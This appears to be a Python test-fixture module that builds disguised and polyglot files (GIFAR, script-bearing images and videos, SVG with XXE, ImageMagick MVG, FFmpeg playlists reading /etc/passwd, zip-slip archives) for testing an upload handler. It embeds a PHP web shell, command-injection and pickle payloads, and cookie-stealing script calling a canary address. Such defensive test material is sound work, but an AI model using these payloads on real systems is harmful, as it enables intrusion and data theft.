"""Files that are two things at once, or not what they say, with a script or an address in them.

All are made here, after the publicly described kinds: GIFAR, JPEG and BMP with script, MP4 and PDF with
a page, playlists that name files and addresses (FFmpeg), pictures that are programs (ImageMagick).
"""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

from PIL import Image
from PIL.PngImagePlugin import PngInfo

from mmsvault.sample import media

Files = Mapping[str, tuple[str, bytes]]
"""Declared type and bytes, by name."""


def made(canary: str) -> Files:
    """Return the files by name; `canary` is an address that nothing may ask for."""
    script = f"fetch('{canary}/ran');alert(document.cookie)".encode()
    page = b"<!DOCTYPE html><html><body><script>" + script + b"</script></body></html>"
    return {
        **_pages(page, script),
        **_pictures(page, script),
        **_recordings(page, canary),
        **_others(page, canary),
    }


def _pages(page: bytes, script: bytes) -> Files:
    """Return web pages under other names, and texts that a careless browser would take for one."""
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="' + script.replace(b'"', b"'") + b'"/>'
    return {
        "HTML named .jpg": ("image/jpeg", page),
        "HTML with a mark of UTF-8": ("image/jpeg", b"\xef\xbb\xbf" + page),
        "HTML in UTF-16": ("image/jpeg", page.decode().encode("utf-16")),
        "HTML behind blanks": ("image/gif", b" \r\n\t" * 500 + page),
        "HTML behind a comment": ("image/png", b"<!-- " + b"x" * 2000 + b" -->" + page),
        "a tag that begins no page": ("image/jpeg", b"<div><script>" + script + b"</script>"),
        "text that turns into a page": ("text/plain", b"Dear all,\n" * 60 + page),
        "XHTML": (
            "image/jpeg",
            b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>'
            + script
            + b"</script></html>",
        ),
        "XML with a stylesheet": (
            "text/xml",
            b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><s id="s"/>',
        ),
        "SVG with a script": ("image/svg+xml", svg),
        "SVG named .png": ("image/png", b'<?xml version="1.0"?>\n<!-- x -->\n' + svg),
        "SVG with a DTD": (
            "image/svg+xml",
            b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + svg,
        ),
        "SVG, packed": ("image/svg+xml", gzip.compress(svg, mtime=0)),
        "MHTML": ("message/rfc822", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + page),
        "script alone": ("text/javascript", script),
        "script named .jpg": ("image/jpeg", script),
        "a stylesheet": ("text/css", b"@import 'x.css'; body { background: url(x) }"),
        "HTML declared as a font": ("font/woff", page),
        "HTML in UTF-7": ("text/plain; charset=utf-7", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    }


def _pictures(page: bytes, script: bytes) -> Files:
    """Return pictures that are shown, and are something else as well."""
    jpeg, png, gif = _drawn("JPEG"), _drawn("PNG"), _drawn("GIF")
    bmp, webp, tiff = _drawn("BMP"), _drawn("WEBP"), _drawn("TIFF")
    told = PngInfo()
    told.add_text("Comment", page.decode())
    zipped = _zip({"index.html": page, "META-INF/MANIFEST.MF": b"Main-Class: Evil\n"})
    return {
        "GIF and script": ("text/javascript", b"GIF89a/*" + gif[8:] + b"*/=1;" + script),
        "GIF and HTML": ("text/html", b"GIF89a" + page),
        "GIF and JAR": ("image/gif", gif + zipped),
        "GIF with a comment": ("image/gif", gif[:-1] + b"\x21\xfe" + _blocks(page) + b"\0;"),
        "JPEG and HTML": ("text/html", jpeg + page),
        "JPEG with a comment": (
            "text/html",
            jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(page) + 2) + page + jpeg[2:],
        ),
        "JPEG with a script for a name": ("image/jpeg", _with_exif(page)),
        "JPEG and JAR": ("application/java-archive", jpeg + zipped),
        "JPEG and PHP": ("image/jpeg", jpeg + b"<?php system($_GET[0]); ?>"),
        "PNG and HTML": ("text/html", png + page),
        "PNG with a comment": ("text/html", _drawn("PNG", pnginfo=told)),
        "PNG with pixels that are a page": ("text/html", _pixels(page)),
        "PNG and ZIP": ("application/zip", png + zipped),
        "BMP and script": ("text/javascript", bmp[:2] + b"/*" + bmp[4:] + b"*/=1;" + script),
        "BMP and HTML": ("text/html", bmp + page),
        "WebP and HTML": ("text/html", _riff_with(webp, b"XMP ", page)),
        "TIFF and HTML": ("text/html", tiff + page),
        "icon and HTML": ("text/html", _drawn("ICO") + page),
        "a picture's beginning and a page": ("image/jpeg", b"\xff\xd8\xff\xe0" + page),
        "PNG's beginning and a page": ("image/png", b"\x89PNG\r\n\x1a\n" + page),
        "two pictures in one": ("image/jpeg", jpeg + png + gif),
        "a drawing program (MVG)": (
            "image/jpeg",
            b"push graphic-context\nfill 'url(https://127.0.0.1/\"|id\")'\npop graphic-context",
        ),
        "a drawing program (MSL)": (
            "image/jpeg",
            b'<?xml version="1.0"?><image><read filename="/etc/passwd"/></image>',
        ),
        "PostScript": ("image/jpeg", b"%!PS\n(%pipe%id) (r) file\n"),
    }


def _recordings(page: bytes, canary: str) -> Files:
    """Return films and sounds that are pages as well, and playlists that name files and addresses."""
    listed = f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10,\n{canary}/segment\n#EXT-X-ENDLIST\n".encode()
    local = b"#EXTM3U\n#EXTINF:10,\nconcat:file:///etc/passwd|file:///etc/hosts\n#EXT-X-ENDLIST\n"
    film, sound, voice = (one.data for one in (media.film_mp4(), media.music(), media.voice()))
    return {
        "MP4 and HTML": ("text/html", film + _box(b"free", page)),
        "MP4 that begins with a page": ("text/html", _box(b"ftyp", b"isom" + page) + film),
        "MP4 with a page for a title": ("text/html", film + _box(b"udta", _box(b"name", page))),
        "3GP and ZIP": ("video/3gpp", media.film_3gp().data + _zip({"x.html": page})),
        "AMR and HTML": ("text/html", voice + page),
        "sound and HTML": ("text/html", sound + page),
        "MP3 with a page for a title": ("text/html", _id3(page) + sound),
        "WAV and HTML": ("text/html", _wav(page)),
        "Matroska and HTML": ("text/html", b"\x1a\x45\xdf\xa3\x84webm" + page),
        "a playlist of an address": ("application/vnd.apple.mpegurl", listed),
        "a playlist named .mp4": ("video/mp4", listed),
        "a playlist of files": ("video/3gpp", local),
        "AVI with a playlist": ("video/x-msvideo", _riff(b"AVI ", b"GAB2" + listed)),
        "a list of pieces": ("video/mp4", b"ffconcat version 1.0\nfile /etc/passwd\n"),
        "a session (SDP)": ("video/mp4", b"v=0\nc=IN IP4 127.0.0.1\nm=video 9 RTP/AVP 96\n"),
        "a manifest (DASH)": (
            "application/dash+xml",
            f'<?xml version="1.0"?><MPD><BaseURL>{canary}/</BaseURL></MPD>'.encode(),
        ),
        "QuickTime that names another film": (
            "video/quicktime",
            _box(b"ftyp", b"qt  \0\0\0\0")
            + _box(b"moov", _box(b"rmra", _box(b"rdrf", f"{canary}/x.mov".encode()))),
        ),
    }


def _others(page: bytes, canary: str) -> Files:
    """Return documents, cards, archives and programs."""
    pdf = (
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /URI /URI ("
        + canary.encode()
        + b") >> >>\nendobj\n"
        b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )
    zipped = _zip({"index.html": page})
    return {
        "PDF and ZIP": ("application/zip", pdf + zipped),
        "PDF and HTML": ("text/html", pdf + page),
        "PDF behind a page": ("application/pdf", page + pdf),
        "PDF that goes to an address": ("application/pdf", pdf),
        "ZIP with a way out": ("application/zip", _zip({"../../../etc/cron.d/x": b"x"})),
        "ZIP named .jpg": ("image/jpeg", zipped),
        "a pass with a page": (
            "application/vnd.apple.pkpass",
            _zip({"pass.json": b"{}", "index.html": page}),
        ),
        "a contact with scripts": (
            "text/x-vcard",
            b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:" + page + b"\r\nURL:javascript:alert(1)\r\n"
            b"PHOTO;VALUE=URI:" + canary.encode() + b"/p.jpg\r\nEND:VCARD\r\n",
        ),
        "an appointment with an address": (
            "text/calendar",
            b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:1\r\nDTSTART:20261124T120000Z\r\n"
            b"SUMMARY:" + page + b"\r\nATTACH:" + canary.encode() + b"/a\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
        ),
        "SMIL with a script": (
            "application/smil",
            b'<smil><head><script>alert(1)</script></head><body><img src="javascript:x()"/></body></smil>',
        ),
        "a program for Windows": ("image/jpeg", b"MZ" + bytes(60) + b"PE\0\0" + page),
        "a program for Linux": ("image/jpeg", b"\x7fELF\x02\x01\x01" + bytes(60) + page),
        "a shell script": ("image/jpeg", b"#!/bin/sh\ncurl " + canary.encode() + b"\n"),
        "a Flash film": ("application/x-shockwave-flash", b"FWS\x09" + bytes(20) + page),
        "a Java class": ("application/java", b"\xca\xfe\xba\xbe\0\0\0\x34" + page),
        "a shortcut": ("text/plain", b"[InternetShortcut]\r\nURL=" + canary.encode() + b"\r\n"),
        "a pickle": ("application/octet-stream", b"cos\nsystem\n(S'id'\ntR."),
        "WebAssembly": ("application/wasm", b"\0asm\x01\0\0\0"),
    }


def broken() -> Files:
    """Return pictures and films that end too soon, or whose parts do not fit together."""
    whole = {
        "JPEG": _drawn("JPEG"),
        "PNG": _drawn("PNG"),
        "GIF": _drawn("GIF"),
        "WebP": _drawn("WEBP"),
        "BMP": _drawn("BMP"),
        "TIFF": _drawn("TIFF"),
        "MP4": media.film_mp4().data,
        "3GP": media.film_3gp().data,
        "AMR": media.voice().data,
        "MP3": media.music().data,
    }
    files = {}
    for name, data in whole.items():
        middle = len(data) // 2
        ways = {
            "cut off": data[:middle],
            "without its head": data[24:],
            "with a hole": data[:middle] + bytes(64) + data[middle + 64 :],
        }
        for way, bytes_ in ways.items():
            files[f"{name} {way}"] = ("application/octet-stream", bytes_)
    return files


def _drawn(form: str, **more: object) -> bytes:
    kept = io.BytesIO()
    Image.new("RGB", (32, 32), "teal").save(kept, form, **more)  # type: ignore[arg-type]  # Pillow's own options
    return kept.getvalue()


def _with_exif(page: bytes) -> bytes:
    told = Image.Exif()
    told[0x010E] = told[0x013B] = page.decode()
    return _drawn("JPEG", exif=told)


def _pixels(page: bytes) -> bytes:
    """Return a PNG that is not packed, so that its one row of grey pixels stands in it as it is."""
    head = struct.pack(">IIBBBBB", len(page), 1, 8, 0, 0, 0, 0)
    chunks = ((b"IHDR", head), (b"IDAT", zlib.compress(b"\0" + page, 0)), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        for name, data in chunks
    )


def _blocks(data: bytes) -> bytes:
    pieces = (data[start : start + 255] for start in range(0, len(data), 255))
    return b"".join(bytes([len(piece)]) + piece for piece in pieces)


def _box(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data) + 8) + name + data


def _riff(name: bytes, data: bytes) -> bytes:
    return b"RIFF" + struct.pack("<I", len(data) + 4) + name + data


def _riff_with(data: bytes, name: bytes, more: bytes) -> bytes:
    chunk = name + struct.pack("<I", len(more)) + more + bytes(len(more) % 2)
    return _riff(data[8:12], data[12:] + chunk)


def _wav(page: bytes) -> bytes:
    sound = b"fmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 8000, 1, 8) + b"data" + struct.pack("<I", 800)
    return _riff(b"WAVE", sound + bytes(800) + b"LIST" + struct.pack("<I", len(page)) + page)


def _id3(page: bytes) -> bytes:
    frame = b"TIT2" + struct.pack(">I", len(page) + 1) + b"\0\0\x03" + page
    size = len(frame)
    return b"ID3\x03\0\0" + bytes(size >> shift & 0x7F for shift in (21, 14, 7, 0)) + frame


def _zip(files: Mapping[str, bytes]) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as packed:
        for name, data in files.items():
            packed.writestr(zipfile.ZipInfo(name), data)
    return kept.getvalue()
